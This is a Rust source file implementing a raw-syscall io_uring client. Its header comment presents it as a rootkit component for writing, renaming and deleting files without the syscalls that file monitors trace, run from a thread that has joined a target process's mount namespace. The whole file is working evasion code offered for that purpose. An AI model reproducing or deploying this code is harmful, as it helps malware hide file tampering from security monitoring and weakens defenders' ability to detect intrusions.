//! A minimal io_uring client (raw syscalls, no liburing), as a rootkit would use it to write
//! files without the syscalls a file monitor traces: each operation is queued from a thread
//! that has joined a process's mount namespace, and its completion's result returned.
use std::{ffi::CString, fs::File, io, os::fd::AsRawFd, ptr};

pub const OP_OPENAT: u8 = 18;
pub const OP_RENAMEAT: u8 = 35;
pub const OP_UNLINKAT: u8 = 36;
pub const OP_MKDIRAT: u8 = 37;

const OFF_SQ_RING: i64 = 0;
const OFF_CQ_RING: i64 = 0x800_0000;
const OFF_SQES: i64 = 0x1000_0000;
const ENTER_GETEVENTS: u32 = 1;

#[repr(C)]
#[derive(Default)]
struct SqOffsets {
    head: u32,
    tail: u32,
    ring_mask: u32,
    ring_entries: u32,
    flags: u32,
    dropped: u32,
    array: u32,
    resv1: u32,
    user_addr: u64,
}

#[repr(C)]
#[derive(Default)]
struct CqOffsets {
    head: u32,
    tail: u32,
    ring_mask: u32,
    ring_entries: u32,
    overflow: u32,
    cqes: u32,
    flags: u32,
    resv1: u32,
    user_addr: u64,
}

#[repr(C)]
#[derive(Default)]
struct Params {
    sq_entries: u32,
    cq_entries: u32,
    flags: u32,
    sq_thread_cpu: u32,
    sq_thread_idle: u32,
    features: u32,
    wq_fd: u32,
    resv: [u32; 3],
    sq_off: SqOffsets,
    cq_off: CqOffsets,
}

/// `struct io_uring_sqe` (64 bytes), with the fields these operations use.
#[repr(C)]
#[derive(Default)]
struct Sqe {
    opcode: u8,
    flags: u8,
    ioprio: u16,
    fd: i32,
    /// `off`, or `addr2` (a rename's new path).
    off: u64,
    addr: u64,
    /// Open and mkdir: the mode; rename: the new path's directory descriptor.
    len: u32,
    /// Open flags, rename flags, unlink flags.
    op_flags: u32,
    user_data: u64,
    buf_index: u16,
    personality: u16,
    file_index: i32,
    addr3: u64,
    pad: u64,
}

/// One operation: the opcode, its path (and a rename's new path), flags and mode.
pub struct Op {
    pub opcode: u8,
    pub path: String,
    pub new_path: Option<String>,
    pub flags: u32,
    pub mode: u32,
}

/// Runs `ops` one after another through one ring, from a thread in the mount namespace of
/// process `pid`; each operation's result (a descriptor, 0, or a negative errno).
pub fn run_in_namespace_of(pid: u32, ops: Vec<Op>) -> io::Result<Vec<i32>> {
    std::thread::spawn(move || {
        let ns = File::open(format!("/proc/{pid}/ns/mnt"))?;
        // SAFETY: plain syscalls on this thread; it shares no file-system state after unshare.
        unsafe {
            check(libc::unshare(libc::CLONE_FS))?;
            check(libc::setns(ns.as_raw_fd(), libc::CLONE_NEWNS))?;
        }
        let ring = Ring::new()?;
        ops.iter().map(|op| ring.run(op)).collect()
    })
    .join()
    .expect("the io_uring thread panicked")
}

fn check(r: libc::c_int) -> io::Result<()> {
    if r < 0 {
        Err(io::Error::last_os_error())
    } else {
        Ok(())
    }
}

struct Ring {
    fd: libc::c_int,
    params: Params,
    sq: *mut u8,
    cq: *mut u8,
    sqes: *mut Sqe,
    /// Every mapping, for `Drop`.
    maps: Vec<(*mut u8, usize)>,
}

impl Ring {
    fn new() -> io::Result<Ring> {
        let mut params = Params::default();
        // SAFETY: params is a valid io_uring_params.
        let fd = unsafe { libc::syscall(libc::SYS_io_uring_setup, 4, &mut params) };
        if fd < 0 {
            return Err(io::Error::last_os_error());
        }
        let fd = fd as libc::c_int;
        let map = |len: usize, off: i64| {
            // SAFETY: a shared mapping of the ring's own memory.
            let p = unsafe {
                libc::mmap(
                    ptr::null_mut(),
                    len,
                    libc::PROT_READ | libc::PROT_WRITE,
                    libc::MAP_SHARED | libc::MAP_POPULATE,
                    fd,
                    off,
                )
            };
            if p == libc::MAP_FAILED {
                Err(io::Error::last_os_error())
            } else {
                Ok(p.cast::<u8>())
            }
        };
        let lens = [
            (params.sq_off.array + params.sq_entries * 4) as usize,
            (params.cq_off.cqes + params.cq_entries * 16) as usize,
            params.sq_entries as usize * 64,
        ];
        let mut ring = Ring {
            fd,
            params,
            sq: ptr::null_mut(),
            cq: ptr::null_mut(),
            sqes: ptr::null_mut(),
            maps: Vec::new(),
        };
        for (len, off) in lens.into_iter().zip([OFF_SQ_RING, OFF_CQ_RING, OFF_SQES]) {
            ring.maps.push((map(len, off)?, len));
        }
        (ring.sq, ring.cq) = (ring.maps[0].0, ring.maps[1].0);
        ring.sqes = ring.maps[2].0.cast();
        Ok(ring)
    }

    /// Queues `op`, waits for its completion, and returns its result.
    fn run(&self, op: &Op) -> io::Result<i32> {
        let path = CString::new(op.path.as_str()).expect("no NUL in the path");
        let new_path = op
            .new_path
            .as_deref()
            .map(|p| CString::new(p).expect("no NUL in the path"));
        let mut sqe = Sqe {
            opcode: op.opcode,
            fd: libc::AT_FDCWD,
            addr: path.as_ptr() as u64,
            len: op.mode,
            op_flags: op.flags,
            ..Sqe::default()
        };
        if let Some(new) = &new_path {
            sqe.off = new.as_ptr() as u64;
            sqe.len = libc::AT_FDCWD as u32;
        }
        let (so, co) = (&self.params.sq_off, &self.params.cq_off);
        // SAFETY: offsets the kernel gave for the mapped rings; the ring is used by this thread
        // only, one entry at a time.
        unsafe {
            let at = |base: *mut u8, off: u32| base.add(off as usize).cast::<u32>();
            let tail = ptr::read_volatile(at(self.sq, so.tail));
            let index = tail & ptr::read_volatile(at(self.sq, so.ring_mask));
            ptr::write(self.sqes.add(index as usize), sqe);
            ptr::write_volatile(at(self.sq, so.array).add(index as usize), index);
            std::sync::atomic::fence(std::sync::atomic::Ordering::Release);
            ptr::write_volatile(at(self.sq, so.tail), tail.wrapping_add(1));
            let n = libc::syscall(
                libc::SYS_io_uring_enter,
                self.fd,
                1,
                1,
                ENTER_GETEVENTS,
                ptr::null::<u8>(),
                0,
            );
            if n < 0 {
                return Err(io::Error::last_os_error());
            }
            std::sync::atomic::fence(std::sync::atomic::Ordering::Acquire);
            let head = ptr::read_volatile(at(self.cq, co.head));
            let slot = head & ptr::read_volatile(at(self.cq, co.ring_mask));
            let cqe = self.cq.add(co.cqes as usize + slot as usize * 16);
            let res = ptr::read_volatile(cqe.add(8).cast::<i32>());
            ptr::write_volatile(at(self.cq, co.head), head.wrapping_add(1));
            if op.opcode == OP_OPENAT && res >= 0 {
                libc::close(res);
            }
            Ok(res)
        }
    }
}

impl Drop for Ring {
    fn drop(&mut self) {
        // SAFETY: the ring's own mappings and descriptor, no longer used.
        unsafe {
            for &(p, len) in &self.maps {
                libc::munmap(p.cast(), len);
            }
            libc::close(self.fd);
        }
    }
}
